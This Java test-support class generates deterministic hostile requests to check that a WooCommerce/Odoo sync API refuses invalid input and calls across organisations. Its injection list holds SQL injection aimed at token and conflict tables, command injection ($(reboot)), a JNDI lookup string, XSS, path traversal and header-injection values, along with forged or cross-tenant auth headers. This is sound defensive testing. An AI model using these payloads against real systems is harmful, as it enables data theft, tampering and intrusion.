package com.wooodoo.sync.api;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.BigIntegerNode;
import com.fasterxml.jackson.databind.node.BooleanNode;
import com.fasterxml.jackson.databind.node.DecimalNode;
import com.fasterxml.jackson.databind.node.DoubleNode;
import com.fasterxml.jackson.databind.node.IntNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.LongNode;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import com.wooodoo.sync.store.ConflictType;
import com.wooodoo.sync.support.ApiClient;
import com.wooodoo.sync.support.ApiClient.Answer;

import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.function.Predicate;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/**
 * A deterministic corpus of hostile orchestrate calls, built from a fixed seed. Every call carries
 * at least one defect that the contract refuses with a 4xx (an unknown field, a value of the wrong
 * type or range, an id of another organisation or of nothing, an unknown or contradictory action),
 * so no call may ever succeed; on top of that, some calls get broken bytes, a foreign method,
 * hostile headers or an oversized body.
 */
final class HostileRequests {

    /** Who calls, and the ids of the two organisations' syncs and conflicts. */
    record Context(String token, String orgId, String ownSync, String ownConflict,
                   String otherToken, String otherOrg, String otherSync, String otherConflict) {
    }

    /** One generated call. */
    record Call(int number, String action, String defects, String method, String pathAndQuery,
                Map<String, String> headers, byte[] body) {

        Answer send(int port) {
            HttpProbe probe = HttpProbe.request(port, method, pathAndQuery);
            headers.forEach(probe::header);
            if (body != null) {
                probe.body(body);
            }
            return probe.send();
        }

        @Override
        public String toString() {
            String shownBody = body == null ? "" : " body=" + abbreviate(new String(body, StandardCharsets.UTF_8));
            return "#" + number + " " + action + " [" + defects + "] " + method + " " + abbreviate(pathAndQuery)
                    + " headers=" + headers.keySet() + shownBody;
        }
    }

    private enum Form {
        BODY(false, false, "POST"), PATH_BODY(true, false, "POST"),
        QUERY_POST(false, true, "POST"), PATH_QUERY_POST(true, true, "POST"),
        QUERY_GET(false, true, "GET"), PATH_QUERY_GET(true, true, "GET");

        final boolean path;
        final boolean query;
        final String method;

        Form(boolean path, boolean query, String method) {
            this.path = path;
            this.query = query;
            this.method = method;
        }
    }

    private static final String BASE = ApiClient.BASE;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final Pattern UUID_TEXT =
            Pattern.compile("^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}$");
    private static final int MAX_QUERY_CHARS = 6000;

    static final List<String> ACTIONS =
            List.of("start", "status", "pause", "resume", "cancel", "conflicts", "resolve-conflict", "activity");
    private static final Map<String, List<String>> FIELDS = Map.of(
            "start", List.of("systems", "entityTypes", "syncConfig", "idempotencyKey"),
            "status", List.of("syncId"),
            "pause", List.of("syncId"),
            "resume", List.of("syncId"),
            "cancel", List.of("syncId"),
            "conflicts", List.of("syncId", "state", "type", "limit", "cursor"),
            "resolve-conflict", List.of("conflictId", "resolution", "note"),
            "activity", List.of("syncId", "limit", "cursor"));
    private static final List<String> CONFIG_FIELDS =
            List.of("batchSize", "maxRetries", "rateLimit", "interBatchDelayMs", "mode", "dryRun");
    private static final Map<String, int[]> CONFIG_RANGES = Map.of(
            "batchSize", new int[] {1, 200}, "maxRetries", new int[] {0, 5},
            "rateLimit", new int[] {1, 50}, "interBatchDelayMs", new int[] {0, 60_000});
    private static final Set<String> READ_ONLY = Set.of("status", "conflicts", "activity");
    private static final List<String> SYSTEMS = List.of("woocommerce", "odoo");
    private static final List<String> ENTITY_TYPES = List.of("customers", "products", "orders");
    private static final List<String> STATES = List.of("unresolved", "resolved", "all");
    private static final List<String> RESOLUTIONS = List.of("accept", "reject", "retry");

    private static final List<String> INJECTIONS = List.of(
            "1' OR '1'='1", "'; DROP TABLE sync_orchestration;--", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)--",
            "' UNION SELECT token_hash, org_id FROM api_token--", "'; UPDATE sync_conflict SET resolution='accept';--",
            "$(reboot)", "`id`", "${jndi:ldap://example.invalid/a}", "${header.Authorization}",
            "${exchangeProperty.orchestrateRequest}", "${bean:orchestrateActions?method=start}", "{{7*7}}", "#{7*7}",
            "<script>alert(1)</script>", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
            "a\r\nSet-Cookie: hacked=1", "%00", "%0d%0a", "\u0000", "{\"$ne\":null}", "__proto__", "constructor",
            "null", "undefined", "NaN", "-0", "1e309", "\u202Egnp.exe", "\uFEFFstart", "\u200Bstatus",
            "\uFF53\uFF54\uFF41\uFF52\uFF54", "\u0130", "\u00DF", "\uD83D\uDE00\uD83D\uDD25", "\u540C\u671F",
            "Z\u0351\u036B\u0343\u036A\u0302a\u0357l\u0310g\u0352o", "\\", "\\u0000", "\"", "'", "", " ", "\t");
    private static final List<String> NEAR_MISSES = List.of(
            "Start", "start ", " status", "STATUS", "resolve_conflict", "resolveConflict", "woocommerce ",
            "WooCommerce", "odoo\u0000", "Odoo", "customer", "Customers", "customers ", "Unresolved", "resolved ",
            "ACCEPT", "accept\n", "reject\t", "full ", "Incremental", "true ", "False", "DataMismatch ",
            "duplicatekey", "3f2b8c1e-7d4a-4e8e-9a51-0c6b2f9d1e7", "3f2b8c1e-7d4a-4e8e-9a51-0c6b2f9d1e77a",
            "3F2B8C1E7D4A4E8E9A510C6B2F9D1E77");
    private static final List<String> UNKNOWN_NAMES = List.of(
            "__proto__", "constructor", "prototype", "$where", "SyncId", "syncid", "sync_id", "ACTION", "Action",
            "systems ", " syncId", "syncId\u0000", "idempotency_key", "entitytypes", "syncConfig.batchSize",
            "batchSize", "org_id", "orgId", "x-org-id", "token", "admin", "role", "id", "\u202EdIcnys", "status",
            "resolvedBy", "actor", "createdBy", "limit[]", "cursor ", "syncId[]", "systems[0]");

    private final Random random;
    private final Context context;

    HostileRequests(long seed, Context context) {
        this.random = new Random(seed);
        this.context = context;
    }

    /** {@code count} calls, spread evenly over the eight actions. */
    List<Call> generate(int count) {
        List<Call> calls = new ArrayList<>();
        for (int n = 0; n < count; n++) {
            calls.add(call(n, ACTIONS.get(n % ACTIONS.size())));
        }
        return calls;
    }

    private Call call(int number, String action) {
        Form form = pick(Form.values());
        if ("GET".equals(form.method) && !READ_ONLY.contains(action)) {
            form = form.path ? Form.PATH_QUERY_POST : Form.QUERY_POST;
        }
        List<String> defects = new ArrayList<>();
        Map<String, JsonNode> fields = new LinkedHashMap<>();
        for (String field : FIELDS.get(action)) {
            if (random.nextBoolean()) {
                fields.put(field, random.nextBoolean() ? plausible(field, action) : anything());
            }
        }
        String pathAction = form.path ? action : null;
        JsonNode fieldAction = form.path && random.nextInt(4) != 0 ? null : TextNode.valueOf(action);

        switch (random.nextInt(4)) {
            case 0 -> {
                String name = unknownName(action);
                fields.put(name, anything());
                defects.add("unknown field " + printable(name));
            }
            case 1 -> invalidate(action, fields, form.query, defects);
            case 2 -> {
                if ("start".equals(action)) {
                    invalidate(action, fields, form.query, defects);
                } else {
                    String idField = "resolve-conflict".equals(action) ? "conflictId" : "syncId";
                    fields.put(idField, TextNode.valueOf(idOfNothingOrOfAnotherOrg(idField)));
                    defects.add(idField + " of another organisation or of nothing");
                }
            }
            default -> {
                if (form.path && random.nextBoolean()) {
                    pathAction = random.nextBoolean() ? hostileActionName() : action;
                    fieldAction = pathAction.equals(action) ? TextNode.valueOf(otherAction(action)) : fieldAction;
                    defects.add("path action " + printable(pathAction) + " vs field action " + fieldAction);
                } else {
                    fieldAction = random.nextBoolean() ? TextNode.valueOf(hostileStringNotIn(ACTIONS)) : hostileNonText();
                    if (form.path) {
                        pathAction = otherAction(action);
                    }
                    defects.add("action " + printable(String.valueOf(fieldAction)));
                }
            }
        }
        if (fieldAction != null) {
            Map<String, JsonNode> withAction = new LinkedHashMap<>();
            withAction.put("action", fieldAction);
            withAction.putAll(fields);
            fields = withAction;
        }
        return assemble(number, action, form, pathAction, fields, defects);
    }

    private Call assemble(int number, String action, Form form, String pathAction, Map<String, JsonNode> fields,
                          List<String> defects) {
        String path = BASE + (pathAction == null ? "" : "/" + URLEncoder.encode(pathAction, StandardCharsets.UTF_8));
        String method = form.method;
        String query = form.query ? query(fields) : null;
        byte[] body = null;
        Map<String, String> headers = authHeaders();
        if (query != null && query.length() > MAX_QUERY_CHARS) {
            // Tomcat refuses long request lines itself; OrchestrateValidationTest checks that separately
            query = null;
            method = "POST";
        }
        if (query == null) {
            body = json(fields);
            String contentType = pick(new String[] {"application/json", "application/x-www-form-urlencoded",
                    "text/plain", null, "application/xml", "multipart/form-data; boundary=x",
                    "application/json; charset=utf-16"});
            if (contentType != null) {
                headers.put("Content-Type", contentType);
            }
        }
        int extra = random.nextInt(100);
        if (extra < 10) {
            defects.add(hostileHeaders(headers));
        } else if (extra < 20 && body != null) {
            body = breakBytes(body, defects);
        } else if (extra < 24) {
            method = pick(new String[] {"PUT", "DELETE", "PATCH"});
            defects.add("method " + method);
        } else if (extra < 27 && query != null && "POST".equals(method)) {
            method = "GET";
            defects.add("GET");
        } else if (extra < 29 && body != null) {
            ByteArrayOutputStream padded = new ByteArrayOutputStream();
            padded.writeBytes(body);
            padded.writeBytes(" ".repeat(66_000).getBytes(StandardCharsets.US_ASCII));
            body = padded.toByteArray();
            defects.add("oversized body");
        }
        String pathAndQuery = query == null ? path : path + "?" + query;
        return new Call(number, action, String.join("; ", defects), method, pathAndQuery, headers, body);
    }

    // ------------------------------------------------------------------------------------------
    // defects

    /** Gives one field of the action a value it must refuse. */
    private void invalidate(String action, Map<String, JsonNode> fields, boolean query, List<String> defects) {
        String field = pick(FIELDS.get(action));
        JsonNode value = query ? TextNode.valueOf(invalidText(field)) : invalidJson(field);
        fields.put(field, value);
        defects.add("invalid " + field + "=" + printable(String.valueOf(value)));
    }

    private JsonNode invalidJson(String field) {
        return switch (field) {
            case "systems" -> switch (random.nextInt(5)) {
                case 0 -> array("odoo", "odoo");
                case 1 -> array("woocommerce");
                case 2 -> array("woocommerce", "odoo", "odoo");
                case 3 -> arrayOf(random.nextInt(4), () -> TextNode.valueOf(hostileStringNotIn(SYSTEMS)));
                default -> hostileScalarOrObject();
            };
            case "entityTypes" -> switch (random.nextInt(4)) {
                case 0 -> NODES.arrayNode();
                case 1 -> array("orders", "orders");
                case 2 -> {
                    ArrayNode list = array(pick(ENTITY_TYPES));
                    list.insert(random.nextInt(2), hostileStringNotIn(ENTITY_TYPES));
                    yield list;
                }
                default -> hostileScalarOrObject();
            };
            case "syncConfig" -> random.nextInt(4) == 0 ? hostileScalarOrArray() : invalidConfig();
            case "idempotencyKey" -> switch (random.nextInt(4)) {
                case 0 -> TextNode.valueOf("");
                case 1 -> TextNode.valueOf(pick(new String[] {"k", "\u00e9", "\uD83D\uDE00"}).repeat(256 + random.nextInt(500)));
                case 2 -> TextNode.valueOf("key" + "\u0000" + hostileString());
                default -> hostileNonText();
            };
            case "syncId", "conflictId" -> random.nextBoolean()
                    ? TextNode.valueOf(hostileNonUuid()) : hostileNonText();
            case "state" -> textNotIn(STATES);
            case "type" -> textNotIn(ConflictType.ids());
            case "resolution" -> textNotIn(RESOLUTIONS);
            case "limit" -> pick(new JsonNode[] {IntNode.valueOf(0), IntNode.valueOf(201), IntNode.valueOf(-1),
                    DoubleNode.valueOf(1.5), TextNode.valueOf("50"), BooleanNode.TRUE, DoubleNode.valueOf(1e308),
                    BigIntegerNode.valueOf(new BigInteger("123456789012345678901234567890")), NODES.arrayNode(),
                    LongNode.valueOf(Long.MIN_VALUE), DecimalNode.valueOf(new BigDecimal("50.0000000000000000001"))});
            case "cursor" -> switch (random.nextInt(4)) {
                case 0 -> TextNode.valueOf("");
                case 1 -> TextNode.valueOf("!" + hostileString());
                case 2 -> TextNode.valueOf("A".repeat(513 + random.nextInt(2000)));
                default -> hostileNonText();
            };
            case "note" -> switch (random.nextInt(4)) {
                case 0 -> TextNode.valueOf("");
                case 1 -> TextNode.valueOf(hostileString() + "\u0000" + hostileString());
                case 2 -> TextNode.valueOf("n".repeat(2001 + random.nextInt(3000)));
                default -> hostileNonText();
            };
            default -> throw new IllegalArgumentException(field);
        };
    }

    /** Invalid in a query string, where every value is text and numbers and lists are converted. */
    private String invalidText(String field) {
        return switch (field) {
            case "systems" -> pick(new String[] {"", "odoo,odoo", "woocommerce", "woocommerce,odoo,odoo",
                    "woocommerce;odoo", "woocommerce, odoo", "woocommerce,", hostileStringWithout(SYSTEMS)});
            case "entityTypes" -> pick(new String[] {"", "customers,customers", "customers,", ",orders",
                    "Customers", "customers orders", hostileStringWithout(ENTITY_TYPES)});
            case "syncConfig" -> switch (random.nextInt(4)) {
                case 0 -> "x" + hostileString();
                case 1 -> pick(new String[] {"", "[]", "42", "null", "\"{}\"", "batchSize=10"});
                default -> invalidConfig().toString();
            };
            case "idempotencyKey" -> pick(new String[] {"", "k".repeat(256 + random.nextInt(200)),
                    "key\u0000" + hostileString()});
            case "syncId", "conflictId" -> random.nextInt(5) == 0 ? "" : hostileNonUuid();
            case "state" -> textNotIn(STATES).asText();
            case "type" -> textNotIn(ConflictType.ids()).asText();
            case "resolution" -> textNotIn(RESOLUTIONS).asText();
            case "limit" -> pick(new String[] {"0", "201", "-1", "1.5", "abc", "", "+5", " 5", "5 ", "0x10", "1e2",
                    "99999999999999999999", "\u0665"});
            case "cursor" -> pick(new String[] {"", "!" + hostileString(), "A".repeat(513 + random.nextInt(500))});
            case "note" -> pick(new String[] {"", "a\u0000b" + hostileString(), "n".repeat(2001 + random.nextInt(1000))});
            default -> throw new IllegalArgumentException(field);
        };
    }

    /** A syncConfig object with at least one member it must refuse. */
    private ObjectNode invalidConfig() {
        ObjectNode config = NODES.objectNode();
        for (String name : CONFIG_FIELDS) {
            if (random.nextInt(3) == 0) {
                config.set(name, validConfigValue(name));
            }
        }
        if (random.nextInt(3) == 0) {
            String unknown = hostileStringNotIn(CONFIG_FIELDS);
            config.set(unknown, anything());
        } else {
            String name = pick(CONFIG_FIELDS);
            config.set(name, invalidConfigValue(name));
        }
        return config;
    }

    private JsonNode invalidConfigValue(String name) {
        return switch (name) {
            case "mode" -> random.nextBoolean() ? textNotIn(List.of("full", "incremental")) : hostileNonText();
            case "dryRun" -> pick(new JsonNode[] {TextNode.valueOf("yes"), TextNode.valueOf("true"), IntNode.valueOf(1),
                    IntNode.valueOf(0), NODES.arrayNode(), NODES.objectNode(), TextNode.valueOf(hostileString())});
            default -> {
                int[] range = CONFIG_RANGES.get(name);
                yield pick(new JsonNode[] {IntNode.valueOf(range[0] - 1), IntNode.valueOf(range[1] + 1),
                        TextNode.valueOf(String.valueOf(range[0])), DoubleNode.valueOf(range[0] + 0.5),
                        BooleanNode.TRUE, DoubleNode.valueOf(-1e308), LongNode.valueOf(Long.MAX_VALUE),
                        BigIntegerNode.valueOf(BigInteger.TEN.pow(40)), NODES.objectNode(), TextNode.valueOf(hostileString())});
            }
        };
    }

    private String idOfNothingOrOfAnotherOrg(String idField) {
        boolean sync = "syncId".equals(idField);
        return switch (random.nextInt(4)) {
            case 0 -> sync ? context.otherSync() : context.otherConflict();
            case 1 -> sync ? context.ownConflict() : context.ownSync();
            case 2 -> new UUID(0, 0).toString();
            default -> new UUID(random.nextLong(), random.nextLong()).toString();
        };
    }

    private String hostileHeaders(Map<String, String> headers) {
        int variant = random.nextInt(11);
        switch (variant) {
            case 0 -> headers.remove("Authorization");
            case 1 -> headers.put("Authorization", "Basic " + Base64.getEncoder().encodeToString("alice:secret".getBytes()));
            case 2 -> headers.put("Authorization", "Bearer " + ApiTokens.PREFIX + new UUID(random.nextLong(), random.nextLong()));
            case 3 -> headers.put("Authorization", "Bearer " + context.token() + "x");
            case 4 -> headers.put("Authorization", "Bearer " + ApiTokens.hash(context.token()));
            case 5 -> headers.put("x-org-id", context.otherOrg());
            case 6 -> headers.put("Authorization", "Bearer " + context.otherToken());
            case 7 -> headers.remove("x-org-id");
            case 8 -> headers.put("x-org-id", pick(new String[] {"' OR '1'='1", "../" + context.orgId(),
                    context.orgId().toUpperCase(), context.orgId() + " ", "*"}));
            case 9 -> headers.put("x-user-id", random.nextBoolean() ? "ali\tce" : "u".repeat(129 + random.nextInt(500)));
            default -> headers.put("Authorization", pick(new String[] {"Bearer", "Bearer  " + context.token(),
                    "bearer" + context.token(), "Token " + context.token(), "Bearer " + context.token() + " extra"}));
        }
        return "hostile headers #" + variant;
    }

    /**
     * Breaks a JSON body: truncation, bytes that are not UTF-8, trailing junk, or the whole body in
     * UTF-16 (which Jackson may still detect and read: the field defect is what must be refused).
     */
    private byte[] breakBytes(byte[] body, List<String> defects) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        switch (random.nextInt(4)) {
            case 0 -> {
                out.write(body, 0, 1 + random.nextInt(body.length - 1));
                defects.add("truncated");
            }
            case 1 -> {
                byte[] invalid = pick(new byte[][] {{(byte) 0xFF}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                        {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xFE, (byte) 0xFF}});
                boolean atStart = random.nextBoolean();
                int at = atStart ? 1 : body.length - 1;
                out.write(body, 0, at);
                out.writeBytes(invalid);
                out.write(body, at, body.length - at);
                defects.add("invalid UTF-8 " + (atStart ? "after {" : "before }"));
            }
            case 2 -> {
                out.writeBytes(body);
                out.writeBytes(pick(new String[] {"}", " x", "{}", "]", ",", "\u0000", "\"", "//"}).getBytes(StandardCharsets.UTF_8));
                defects.add("trailing junk");
            }
            default -> {
                out.writeBytes(new String(body, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16LE));
                defects.add("UTF-16 body");
            }
        }
        return out.toByteArray();
    }

    // ------------------------------------------------------------------------------------------
    // values

    /** A value a client could well send for this field of this action. */
    private JsonNode plausible(String field, String action) {
        return switch (field) {
            case "systems" -> random.nextBoolean() ? array("woocommerce", "odoo") : array("odoo", "woocommerce");
            case "entityTypes" -> {
                List<String> types = new ArrayList<>(ENTITY_TYPES);
                java.util.Collections.shuffle(types, random);
                yield array(types.subList(0, 1 + random.nextInt(types.size())).toArray(String[]::new));
            }
            case "syncConfig" -> {
                ObjectNode config = NODES.objectNode();
                CONFIG_FIELDS.stream().filter(name -> random.nextBoolean())
                        .forEach(name -> config.set(name, validConfigValue(name)));
                yield config;
            }
            case "idempotencyKey" -> TextNode.valueOf("key-" + random.nextInt(1_000_000));
            case "syncId" -> TextNode.valueOf(pick(new String[] {context.ownSync(), context.otherSync(),
                    new UUID(random.nextLong(), random.nextLong()).toString()}));
            case "conflictId" -> TextNode.valueOf(pick(new String[] {context.ownConflict(), context.otherConflict(),
                    new UUID(random.nextLong(), random.nextLong()).toString()}));
            case "state" -> TextNode.valueOf(pick(STATES));
            case "type" -> TextNode.valueOf(pick(ConflictType.ids()));
            case "limit" -> IntNode.valueOf(1 + random.nextInt(200));
            case "cursor" -> TextNode.valueOf("activity".equals(action)
                    ? Cursors.ofActivity(random.nextInt(1_000_000))
                    : Cursors.ofConflict(Instant.parse("2024-01-01T00:00:00Z").plusSeconds(random.nextInt(100_000_000)),
                    new UUID(random.nextLong(), random.nextLong())));
            case "resolution" -> TextNode.valueOf(pick(RESOLUTIONS));
            case "note" -> TextNode.valueOf(unicode(1 + random.nextInt(200)).replace("\u0000", ""));
            default -> throw new IllegalArgumentException(field);
        };
    }

    private JsonNode validConfigValue(String name) {
        return switch (name) {
            case "mode" -> TextNode.valueOf(random.nextBoolean() ? "full" : "incremental");
            case "dryRun" -> BooleanNode.valueOf(random.nextBoolean());
            default -> {
                int[] range = CONFIG_RANGES.get(name);
                yield IntNode.valueOf(range[0] + random.nextInt(range[1] - range[0] + 1));
            }
        };
    }

    /** Any value at all: plausible for some field, hostile text, or hostile JSON of any type. */
    private JsonNode anything() {
        return switch (random.nextInt(5)) {
            case 0 -> {
                String action = pick(ACTIONS);
                yield plausible(pick(FIELDS.get(action)), action);
            }
            case 1, 2 -> TextNode.valueOf(hostileString());
            case 3 -> hostileJson(0);
            default -> invalidJson(pick(FIELDS.get(pick(ACTIONS))));
        };
    }

    private JsonNode hostileJson(int depth) {
        return switch (random.nextInt(10)) {
            case 0, 1, 2, 3 -> TextNode.valueOf(hostileString());
            case 4 -> hostileNumber();
            case 5 -> BooleanNode.valueOf(random.nextBoolean());
            case 6 -> NullNode.getInstance();
            case 7 -> depth > 2 ? TextNode.valueOf(hostileString()) : arrayOf(random.nextInt(4), () -> hostileJson(depth + 1));
            case 8 -> {
                ObjectNode object = NODES.objectNode();
                for (int i = random.nextInt(4); i > 0 && depth <= 2; i--) {
                    object.set(hostileString(), hostileJson(depth + 1));
                }
                yield object;
            }
            default -> deeplyNested(2 + random.nextInt(120));
        };
    }

    private JsonNode hostileScalarOrObject() {
        return switch (random.nextInt(4)) {
            case 0 -> TextNode.valueOf(hostileString());
            case 1 -> hostileNumber();
            case 2 -> BooleanNode.valueOf(random.nextBoolean());
            default -> NODES.objectNode().set(hostileString(), hostileJson(1));
        };
    }

    private JsonNode hostileScalarOrArray() {
        return switch (random.nextInt(4)) {
            case 0 -> TextNode.valueOf(hostileString());
            case 1 -> hostileNumber();
            case 2 -> BooleanNode.valueOf(random.nextBoolean());
            default -> arrayOf(random.nextInt(3), () -> hostileJson(2));
        };
    }

    /** Not text, not null: a number, boolean, list or object. */
    private JsonNode hostileNonText() {
        return switch (random.nextInt(4)) {
            case 0 -> hostileNumber();
            case 1 -> BooleanNode.valueOf(random.nextBoolean());
            case 2 -> arrayOf(random.nextInt(3), () -> TextNode.valueOf(hostileString()));
            default -> NODES.objectNode().set(hostileString(), hostileJson(1));
        };
    }

    private JsonNode hostileNumber() {
        return pick(new JsonNode[] {IntNode.valueOf(0), IntNode.valueOf(-1), DoubleNode.valueOf(1e308),
                DoubleNode.valueOf(-1e308), DoubleNode.valueOf(4.9e-324), LongNode.valueOf(Long.MAX_VALUE),
                LongNode.valueOf(Long.MIN_VALUE), IntNode.valueOf(Integer.MIN_VALUE), DoubleNode.valueOf(0.5),
                BigIntegerNode.valueOf(BigInteger.TEN.pow(300).negate()),
                DecimalNode.valueOf(new BigDecimal("1.00000000000000000000000000000000001"))});
    }

    private JsonNode deeplyNested(int depth) {
        JsonNode value = TextNode.valueOf("bottom");
        for (int i = 0; i < depth; i++) {
            value = random.nextBoolean() ? NODES.arrayNode().add(value) : NODES.objectNode().set("a", value);
        }
        return value;
    }

    private String hostileString() {
        return switch (random.nextInt(9)) {
            case 0, 1 -> pick(INJECTIONS);
            case 2 -> unicode(1 + random.nextInt(40));
            case 3 -> controlCharacters(1 + random.nextInt(10));
            case 4 -> pick(new String[] {"A", "\u00e9", "\u540C", "\uD83D\uDE00", "'", "%", "\\"}).repeat(300 + random.nextInt(4000));
            case 5 -> pick(NEAR_MISSES);
            case 6 -> pick(INJECTIONS) + unicode(1 + random.nextInt(10));
            case 7 -> printableAscii(1 + random.nextInt(30));
            default -> controlCharacters(1) + pick(NEAR_MISSES) + controlCharacters(1);
        };
    }

    private String hostileNonUuid() {
        return hostileStringMatching(s -> !s.isEmpty() && !UUID_TEXT.matcher(s).matches());
    }

    private String hostileStringNotIn(List<String> valid) {
        return hostileStringMatching(s -> !valid.contains(s));
    }

    /** Text that, split at commas as a query value, holds none of the valid values. */
    private String hostileStringWithout(List<String> valid) {
        return hostileStringMatching(s -> java.util.Arrays.stream(s.split(",", -1)).noneMatch(valid::contains));
    }

    private JsonNode textNotIn(List<String> valid) {
        return TextNode.valueOf(hostileStringMatching(s -> !valid.contains(s)));
    }

    private String hostileActionName() {
        return hostileStringMatching(s -> !ACTIONS.contains(s) && !s.isEmpty() && !s.matches("[.\\s]*")
                && s.chars().noneMatch(c -> c == '/' || c == '\\' || c == 0) && s.length() <= 200);
    }

    private String hostileStringMatching(Predicate<String> wanted) {
        for (int attempt = 0; attempt < 1000; attempt++) {
            String candidate = hostileString();
            if (wanted.test(candidate)) {
                return candidate;
            }
        }
        throw new IllegalStateException("no hostile string found that fits");
    }

    private String unknownName(String action) {
        Set<String> known = new java.util.HashSet<>(FIELDS.get(action));
        known.add("action");
        List<String> listed = UNKNOWN_NAMES.stream().filter(name -> !known.contains(name)).toList();
        return random.nextBoolean()
                ? pick(listed)
                : hostileStringMatching(s -> !s.isEmpty() && !known.contains(s) && s.length() < 500);
    }

    private String otherAction(String action) {
        return ACTIONS.stream().filter(a -> !a.equals(action)).toList().get(random.nextInt(ACTIONS.size() - 1));
    }

    private String unicode(int length) {
        int[][] ranges = {{0x20, 0x7E}, {0xA0, 0xFF}, {0x370, 0x3FF}, {0x400, 0x4FF}, {0x590, 0x6FF}, {0x300, 0x36F},
                {0x4E00, 0x9FFF}, {0x1F600, 0x1F64F}, {0x200B, 0x200F}, {0x202A, 0x202E}, {0xE000, 0xE0FF},
                {0xFFF0, 0xFFFD}, {0x10FFF0, 0x10FFFD}, {0x0, 0x1F}};
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            int[] range = ranges[random.nextInt(ranges.length)];
            text.appendCodePoint(range[0] + random.nextInt(range[1] - range[0] + 1));
        }
        return text.toString();
    }

    private String controlCharacters(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            int kind = random.nextInt(3);
            text.append((char) (kind == 0 ? random.nextInt(0x20) : kind == 1 ? 0x7F : 0x80 + random.nextInt(0x20)));
        }
        return text.toString();
    }

    private String printableAscii(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append((char) (0x20 + random.nextInt(0x5F)));
        }
        return text.toString();
    }

    // ------------------------------------------------------------------------------------------
    // plumbing

    private Map<String, String> authHeaders() {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Authorization", "Bearer " + context.token());
        headers.put("x-org-id", context.orgId());
        headers.put("x-user-id", pick(new String[] {"alice", "bob@example.com", "Zo\u00eb", "' OR 1=1 --",
                "<script>x</script>", "${header.Authorization}"}));
        return headers;
    }

    private static String query(Map<String, JsonNode> fields) {
        return fields.entrySet().stream()
                .map(e -> URLEncoder.encode(e.getKey(), StandardCharsets.UTF_8) + "="
                        + URLEncoder.encode(e.getValue().isTextual() ? e.getValue().asText() : e.getValue().toString(),
                        StandardCharsets.UTF_8))
                .collect(Collectors.joining("&"));
    }

    private static byte[] json(Map<String, JsonNode> fields) {
        ObjectNode object = NODES.objectNode();
        fields.forEach(object::set);
        try {
            return JSON.writeValueAsBytes(object);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static ArrayNode array(String... values) {
        ArrayNode array = NODES.arrayNode();
        for (String value : values) {
            array.add(value);
        }
        return array;
    }

    private static ArrayNode arrayOf(int size, java.util.function.Supplier<JsonNode> element) {
        ArrayNode array = NODES.arrayNode();
        for (int i = 0; i < size; i++) {
            array.add(element.get());
        }
        return array;
    }

    private <T> T pick(T[] values) {
        return values[random.nextInt(values.length)];
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String printable(String text) {
        return abbreviate(text.replaceAll("\\p{Cntrl}", "?"));
    }

    private static String abbreviate(String text) {
        return text.length() > 160 ? text.substring(0, 160) + "…(" + text.length() + " chars)" : text;
    }
}
